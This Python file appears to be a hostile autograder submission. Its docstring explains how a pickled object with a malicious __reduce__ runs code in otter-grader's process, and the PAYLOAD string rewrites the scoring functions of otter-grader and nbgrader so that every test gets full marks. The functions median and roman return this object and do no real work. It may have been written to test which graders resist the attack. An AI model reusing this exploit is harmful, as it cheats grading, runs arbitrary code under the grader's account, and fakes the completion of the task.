"""Smuggles an object into the results that runs code in whatever process unpickles it.

How: `__reduce__` names a function and its arguments, and whoever unpickles the object calls it. The object hangs on a
test's result, and is what both functions return as well.

otter-grader: pickles the results in the student's process and unpickles them in its own. There the code makes every
score the maximum; it could as well do anything else that the grading user may.

nbgrader: takes text from the kernel, as JSON, and unpickles nothing.

course grade: values come as msgpack with a tag for each known type; of an object of another type, its class and its
shown text. Nothing that came from the student's process is unpickled or evaluated.
"""

import contextlib

PAYLOAD = """
import sys
if "otter.test_files" in sys.modules:
    sys.modules["otter.test_files"].TestFile.score = property(lambda test: test.possible)
if "nbgrader.utils" in sys.modules:
    sys.modules["nbgrader.utils"].determine_grade = lambda cell, log=None: (cell.metadata.nbgrader.points,) * 2
"""


class Hostile:
    def __reduce__(self):
        return exec, (PAYLOAD,)


with contextlib.suppress(ImportError):
    from otter.execute import Checker

    Checker.get_results()[0].note = Hostile()


def median(numbers):
    return Hostile()


def roman(number):
    return Hostile()
